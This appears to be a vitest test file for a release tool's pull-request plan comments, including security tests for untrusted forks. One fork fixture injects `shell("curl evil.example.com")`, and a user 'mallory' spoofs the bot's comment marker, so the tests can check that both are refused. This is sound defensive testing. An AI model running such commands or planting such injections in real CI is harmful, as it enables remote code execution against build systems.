import { expect, test } from "vitest";
import { actionStep, logsOf, stage, workflowPath, workflowText } from "./stage.js";

const deployable = `
def build():
    return done()

def up(environment):
    return done()

def down(environment):
    return done()

phase("build", tasks = [task(build, "build")])
phase("deploy", tasks = [deploy(environment = e, up = up, down = down) for e in environments()])
`;
const environments = 'register_environment(environment("eu"))\n';

test("a pull request gets its plan in one comment, which is edited in place and never doubled", async () => {
  const { github, repository, runner, drain } = await stage({ "env.ocu.star": environments, "a.ocu.star": deployable });
  await drain();
  await repository.commit({ "a.ocu.star": `${deployable}# two\n` }, { branch: "topic", message: "Two" });
  await github.pull(repository, { head: "topic" });
  const actions = github.actions(repository);
  const results = await runner.drain(repository);
  const planned = results.filter(({ run }) => run.event === "pull_request");
  expect(
    planned.map(({ conclusion }) => conclusion),
    logsOf(results),
  ).toEqual(["success"]);
  const [comment] = github.comments(repository);
  expect(comment?.body).toContain("<!-- ocuroot:plan workflow=ocuroot.yml -->");
  expect(comment?.body).toContain("| deploy eu | r1 → new | phase deploy |");
  expect(actionStep(planned[0] as never).summary).toContain("Release plan for");
  expect(actions.runs.filter(({ event }) => event === "workflow_dispatch")).toEqual([]);
});

test("a fork's files are planned without the machine: the refused call is named", async () => {
  const { github, repository, runner, drain } = await stage({ "a.ocu.star": deployable });
  await drain();
  const before = repository.head("ocuroot-state");
  const fork = await github.repository("eve/shop", {
    files: { ...repository.files("main"), "a.ocu.star": `shell("curl evil.example.com")\n${deployable}` },
  });
  await github.pull(repository, { head: "main", from: fork });
  const results = await runner.drain(repository);
  const planned = results.find(({ run }) => run.event === "pull_request");
  expect(planned?.conclusion, logsOf(results)).toBe("failure");
  const step = actionStep(planned as never);
  expect(step.log).toContain("shell() is off in the plan of a pull request from elsewhere");
  expect(step.annotations).toContainEqual(
    expect.objectContaining({ kind: "error", properties: expect.objectContaining({ file: "a.ocu.star", line: "1" }) }),
  );
  expect(step.summary).toContain("Release plan failed");
  expect(github.comments(repository)).toEqual([]);
  expect(repository.head("ocuroot-state")).toBe(before);
});

test("the comment is found again by its marker and its author, edited when the plan changes, and left alone otherwise", async () => {
  const on = await stage({ "env.ocu.star": environments, "a.ocu.star": deployable });
  const { github, repository, drain } = on;
  await drain();
  await repository.commit({ "a.ocu.star": `${deployable}# two\n` }, { branch: "topic", message: "Two" });
  const pull = await github.pull(repository, { head: "topic" });
  // Anybody can write the marker into a comment of their own.
  const marker = "<!-- ocuroot:plan workflow=ocuroot.yml -->";
  const { Octokit } = await import("@octokit/rest");
  const stranger = github.token({ kind: "classic", login: "mallory" });
  const place = { owner: "acme", repo: "shop", issue_number: pull.number };
  await new Octokit({ auth: stranger.value, baseUrl: github.api }).issues.createComment({
    ...place,
    body: `${marker}\nNothing to see here`,
  });
  await drain();
  const comments = () => github.comments(repository).map(({ id, author, body }) => ({ id, author, body }));
  const [theirs, first] = comments();
  expect(theirs).toMatchObject({ author: "mallory", body: `${marker}\nNothing to see here` });
  expect(first).toMatchObject({ author: "github-actions[bot]" });
  expect(first?.body).toContain(`### Release plan for ${repository.head("topic")?.slice(0, 7)}`);

  // The same commit again, by another run: another time and another log, but the same plan.
  github.clock.advance(3_600_000);
  github.ledger.reset();
  await github.synchronize(repository, pull);
  const [again] = await drain();
  expect(again?.conclusion, logsOf([again as never])).toBe("success");
  github.ledger.expectCalls({ writes: 0, dispatches: 0 });
  expect(comments()).toEqual([theirs, first]);

  await repository.commit(
    { "env.ocu.star": `${environments}register_environment(environment("us"))\n` },
    { branch: "topic", message: "Three" },
  );
  github.ledger.reset();
  await github.synchronize(repository, pull);
  const [changed] = await drain();
  expect(changed?.conclusion, logsOf([changed as never])).toBe("success");
  github.ledger.expectCalls({ writes: 1 });
  const [untouched, edited, ...others] = comments();
  expect([untouched, others]).toEqual([theirs, []]);
  expect(edited?.id).toBe(first?.id);
  expect(edited?.body).toContain("| environments eu, us | registered |");
});

test("a fork that says where documents are kept is refused before that place is asked anything", async () => {
  const { github, repository, runner, drain } = await stage({ "a.ocu.star": deployable });
  await drain();
  const elsewhere = await github.repository("eve/documents", { files: { "README.md": "" }, public: true });
  const fork = await github.repository("eve/shop", {
    files: {
      ...repository.files("main"),
      "repo.ocu.star": `store.set(store.git("${elsewhere.url}", branch = "main"))\n`,
    },
  });
  github.ledger.reset();
  await github.pull(repository, { head: "main", from: fork });
  const [planned] = await runner.drain(repository);
  expect(planned?.conclusion, planned && logsOf([planned])).toBe("failure");
  const step = actionStep(planned as never);
  expect(step.log).toContain("this pull request from elsewhere changes repo.ocu.star");
  expect(step.summary).toContain("Release plan failed");
  expect(github.ledger.calls.filter(({ repository: asked }) => asked === "eve/documents")).toEqual([]);
});

test("a fork of a repository with settings is planned by the settings of the branch that it goes to", async () => {
  const settings = 'load("where.star", "alias")\nrepo_alias(alias)\n';
  const files = { "repo.ocu.star": settings, "where.star": 'alias = "shop"\n', "a.ocu.star": deployable };
  const { github, repository, runner, drain } = await stage(files);
  await drain();
  const same = await github.repository("eve/shop", {
    files: { ...repository.files("main"), "a.ocu.star": `${deployable}# two\n` },
  });
  await github.pull(repository, { head: "main", from: same });
  const [planned] = await runner.drain(repository);
  expect(planned?.conclusion, planned && logsOf([planned])).toBe("success");
  // What the settings load says as much as they do.
  const other = await github.repository("mallory/shop", {
    files: { ...repository.files("main"), "where.star": 'alias = "ours"\n' },
  });
  await github.pull(repository, { head: "main", from: other });
  const [refused] = await runner.drain(repository);
  expect(actionStep(refused as never).log).toContain("this pull request from elsewhere changes where.star");
});

test("a plan that may not be put into a comment stands in the summary, and the permission for one is named", async () => {
  const text = workflowText.replace("  pull-requests: write\n", "");
  const on = await stage({ "env.ocu.star": environments, "a.ocu.star": deployable, [workflowPath]: text });
  await on.drain();
  await on.repository.commit({ "a.ocu.star": `${deployable}# two\n` }, { branch: "topic", message: "Two" });
  await on.github.pull(on.repository, { head: "topic" });
  const [result] = await on.drain();
  expect(result?.conclusion, result && logsOf([result])).toBe("success");
  expect(on.github.comments(on.repository)).toEqual([]);
  expect(actionStep(result as never).summary).toContain("Release plan for");
  expect(actionStep(result as never).log).toContain("permissions:\n  pull-requests: write");
});
